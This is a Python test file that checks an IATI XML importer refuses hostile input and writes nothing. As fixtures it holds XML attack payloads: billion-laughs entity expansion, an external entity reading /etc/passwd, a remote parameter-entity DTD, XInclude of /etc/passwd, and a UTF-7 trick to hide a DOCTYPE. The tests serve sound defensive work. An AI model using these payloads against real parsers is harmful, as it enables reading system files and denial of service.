"""Hostile XML in an IATI import: every DOCTYPE is refused before the parser runs, naming the file
and the line — whatever the encoding (UTF-8, UTF-16 and UTF-32 in either byte order, with or without
a byte-order mark) and however long the prolog before it — and nothing is written. XInclude is never
processed. A document the prolog scanner cannot decode is refused too.

The prolog scanner itself (``ltsplan.formats.xml``) is tested on streams at the end.
"""

from __future__ import annotations

import codecs
import io
from pathlib import Path

import pytest
from hostile_helpers import table_hashes
from sqlalchemy import MetaData, create_engine, select

from ltsplan.errors import InvalidInput
from ltsplan.formats.xml import PROLOG_BYTES, check_prolog
from ltsplan.ledger.imports import import_file
from ltsplan.store.db import Database

DECLARATION = '<?xml version="1.0" encoding="{encoding}"?>\n'
ACTIVITIES = (
    '<iati-activities version="2.03">\n'
    ' <iati-activity default-currency="EUR">\n'
    "  <iati-identifier>XM-EXAMPLE-H-1</iati-identifier>\n"
    '  <reporting-org ref="XM-EXAMPLE-H"><narrative>{name}</narrative></reporting-org>\n'
    "  <title><narrative>{name}</narrative></title>\n"
    '  <transaction><transaction-type code="3"/><transaction-date iso-date="2023-01-01"/>'
    '<value value-date="2023-01-01">1</value></transaction>\n'
    " </iati-activity>\n"
    "</iati-activities>\n"
)
BILLION_LAUGHS = (
    "<!DOCTYPE iati-activities [\n"
    ' <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{n} "{f"&lol{n - 1};" * 10 if n > 1 else "&lol;" * 10}">\n' for n in range(1, 10)
    )
    + "]>\n"
)
EXTERNAL = '<!DOCTYPE iati-activities [\n <!ENTITY secret SYSTEM "file:///etc/passwd">\n]>\n'
PARAMETER = (
    "<!DOCTYPE iati-activities [\n"
    ' <!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd">\n'
    " %remote;\n"
    "]>\n"
)
BOMS = {
    "utf-8": codecs.BOM_UTF8,
    "utf-16-le": codecs.BOM_UTF16_LE,
    "utf-16-be": codecs.BOM_UTF16_BE,
    "utf-32-le": codecs.BOM_UTF32_LE,
    "utf-32-be": codecs.BOM_UTF32_BE,
}


def document(doctype: str, *, name: str = "Reporter", encoding: str = "UTF-8", before: str = "") -> str:
    return DECLARATION.format(encoding=encoding) + before + doctype + ACTIVITIES.format(name=name)


def line_of(text: str, needle: str) -> int:
    return text[: text.index(needle)].count("\n") + 1


def refused(db: Database, database_url: str, path: Path) -> InvalidInput:
    """Import ``path``, expecting a refusal that writes nothing."""
    before = table_hashes(database_url)
    with pytest.raises(InvalidInput) as raised:
        import_file(db, path)
    assert table_hashes(database_url) == before
    return raised.value


@pytest.mark.parametrize(
    ("name", "doctype", "entity"),
    [
        ("billion laughs", BILLION_LAUGHS, "&lol9;"),
        ("external entity", EXTERNAL, "&secret;"),
        ("parameter entity", PARAMETER, "Reporter"),
    ],
)
def test_a_doctype_is_refused_naming_the_file_and_line(
    db: Database, database_url: str, tmp_path: Path, name: str, doctype: str, entity: str
) -> None:
    text = document(doctype, name=entity)
    path = tmp_path / "hostile.xml"
    path.write_text(text, encoding="utf-8")
    problem = refused(db, database_url, path).problems[0]
    assert (problem.file, problem.line, problem.field) == (str(path), line_of(text, "<!DOCTYPE"), "DOCTYPE")
    assert "root:" not in problem.message


def test_a_doctype_after_a_comment_longer_than_a_chunk_is_found(
    db: Database, database_url: str, tmp_path: Path
) -> None:
    comment = "<!--\n" + ("x" * 99 + "\n") * (PROLOG_BYTES // 100 + 10) + "-->\n"
    text = document(EXTERNAL, name="&secret;", before=comment + "<?pi more?>\n<!-- and -->\n")
    path = tmp_path / "long-prolog.xml"
    path.write_text(text, encoding="utf-8")
    assert text.index("<!DOCTYPE") > PROLOG_BYTES
    problem = refused(db, database_url, path).problems[0]
    assert problem.line == line_of(text, "<!DOCTYPE")


@pytest.mark.parametrize("codec", list(BOMS))
@pytest.mark.parametrize("mark", [False, True], ids=["no BOM", "BOM"])
def test_a_doctype_is_found_in_every_unicode_encoding(
    db: Database, database_url: str, tmp_path: Path, codec: str, mark: bool
) -> None:
    text = document(EXTERNAL, name="&secret;", encoding=codec.upper())
    path = tmp_path / f"{codec}.xml"
    path.write_bytes((BOMS[codec] if mark else b"") + text.encode(codec))
    problem = refused(db, database_url, path).problems[0]
    assert (problem.file, problem.line, problem.field) == (str(path), line_of(text, "<!DOCTYPE"), "DOCTYPE")


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (document("").encode("cp500"), "EBCDIC"),
        (b'<?xml version="1.0" encoding="x-unknown-9"?>\n<iati-activities/>', "not supported"),
        (b'<?xml version="1.0" encoding="UTF-16"?>\n<iati-activities/>', "not supported"),
        (b'<?xml version="1.0"?>\n<!-- caf\xe9 -->\n<iati-activities/>', "not valid UTF-8"),
        (b"\x00\x00<\x00?\x00\x00\x00", "unusual byte order"),
    ],
    ids=[
        "EBCDIC",
        "unknown encoding",
        "UTF-16 declared in 8-bit text",
        "Latin-1 in a UTF-8 comment",
        "UCS-4 2143",
    ],
)
def test_a_document_that_cannot_be_decoded_is_refused(
    db: Database, database_url: str, tmp_path: Path, data: bytes, says: str
) -> None:
    path = tmp_path / "undecodable.xml"
    path.write_bytes(data)
    problem = refused(db, database_url, path).problems[0]
    assert problem.file == str(path) and says in problem.message


def test_utf7_cannot_hide_a_doctype_from_the_scanner(db: Database, database_url: str, tmp_path: Path) -> None:
    """UTF-7 writes ``<`` as ``+ADw-``: a byte scanner would see no markup, a parser would."""
    text = document(EXTERNAL, name="&secret;", encoding="UTF-7")
    declaration, rest = text.split("\n", 1)
    path = tmp_path / "utf7.xml"
    path.write_bytes(f"{declaration}\n{rest.replace('<', '+ADw-')}".encode("ascii"))
    assert b"<!DOCTYPE" not in path.read_bytes() and b"+ADw-!DOCTYPE" in path.read_bytes()
    problem = refused(db, database_url, path).problems[0]
    assert (problem.field, problem.line) == ("DOCTYPE", 2)


def test_xinclude_is_never_processed(db: Database, database_url: str, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-MARKER", encoding="utf-8")
    include = (
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{secret}" parse="text"/>'
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/>'
    )
    path = tmp_path / "xinclude.xml"
    path.write_text(document("", name=f"Reporter{include}"), encoding="utf-8")
    try:
        import_file(db, path)
    except InvalidInput as error:  # a refusal is as good, so long as nothing was read
        assert "TOP-SECRET-MARKER" not in str(error) and "root:" not in str(error)
    assert not any("TOP-SECRET-MARKER" in v or "root:" in v for v in every_text(database_url))


def every_text(database_url: str) -> list[str]:
    """Every text value in every table of the database."""
    engine = create_engine(database_url)
    try:
        metadata = MetaData()
        metadata.reflect(engine)
        with engine.connect() as connection:
            return [
                value
                for table in metadata.tables.values()
                for row in connection.execute(select(table))
                for value in row
                if isinstance(value, str)
            ]
    finally:
        engine.dispose()


def test_a_plain_document_still_imports(db: Database, tmp_path: Path) -> None:
    path = tmp_path / "plain.xml"
    path.write_text(document("", before="<!-- a comment -->\n<?pi x?>\n"), encoding="utf-8")
    assert import_file(db, path).summary.entries.inserted == 1


# -- the scanner on streams ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"   \n ",
        b"<root/>",
        b"\x89PNG\r\n\x1a\n" + bytes(range(256)),  # a part of a workbook that is not XML
        b"\x01\x00\x00\x00" + bytes(range(256)) * 4,
        b'<?xml version="1.0"?><!-- <!DOCTYPE inside a comment> --><root/>',
        b'<?xml version="1.0"?><?pi <!DOCTYPE inside an instruction ?><root/>',
        b'<?xml version="1.0"?><root><!DOCTYPE after the root element></root>',
        b'<?xml version="1.0"?><root>\xff bad bytes after the prolog</root>',
        b'<?xml version="1.0" encoding="ISO-8859-1"?><!-- caf\xe9 --><root/>',
    ],
)
def test_the_scanner_passes_what_holds_no_doctype(data: bytes) -> None:
    check_prolog(io.BytesIO(data), "stream")


def test_the_scanner_counts_lines_as_xml_does() -> None:
    data = b'<?xml version="1.0"?>\r\n<!-- one\rtwo -->\r\n\n<!DOCTYPE x>'
    with pytest.raises(InvalidInput) as raised:
        check_prolog(io.BytesIO(data), "stream")
    assert raised.value.problems[0].line == 5
